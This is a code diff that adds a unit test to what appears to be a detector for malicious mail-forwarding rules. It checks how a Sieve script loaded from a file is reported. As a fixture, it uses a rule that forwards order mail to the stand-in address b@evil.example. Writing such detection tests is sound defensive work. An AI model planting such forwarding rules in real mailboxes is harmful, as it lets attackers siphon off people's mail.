@@ -366,6 +366,25 @@ static void a_rule_that_is_switched_off_weighs_less(void **state)
     bench_expect(bench, "rule-forwards-outside", "off", "switched off", SEVERITY_MEDIUM);
 }
 
+/* A file of Sieve does not tell whether it is the script that runs; the server does. */
+static void a_script_out_of_a_file_is_not_said_to_run(void **state)
+{
+    struct bench *bench = *state;
+    struct rule_row rows[2] = {bench_row(1, true), bench_row(1, true)};
+
+    rows[1].from_file = true;
+    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+        struct rule_facts rule = {&rows[i], NULL};
+
+        bench_clear(bench);
+        rule.rule = bench_rule(bench, "work | subject has order | forward+ b@evil.example");
+        bench_run_rules(bench, "rule-forwards-outside", &rule, 1);
+        bench_expect(bench, "rule-forwards-outside", "a file", "forwards to b@evil.example",
+                     SEVERITY_HIGH);
+        assert_int_equal(bench_says(bench, "it comes out of a file"), rows[i].from_file);
+    }
+}
+
 static const struct CMUnitTest tests[] = {
     cmocka_unit_test(a_rule_that_sends_mail_outside_is_told),
     cmocka_unit_test(a_rule_that_hides_mail_is_told),
@@ -381,6 +400,7 @@ static const struct CMUnitTest tests[] = {
     cmocka_unit_test(a_comment_that_hides_the_code_is_told),
     cmocka_unit_test(a_script_put_in_the_place_of_the_webmails_is_told),
     cmocka_unit_test(a_rule_that_is_switched_off_weighs_less),
+    cmocka_unit_test(a_script_out_of_a_file_is_not_said_to_run),
 };
 
 const struct CMUnitTest *detect_rule_tests(size_t *count)
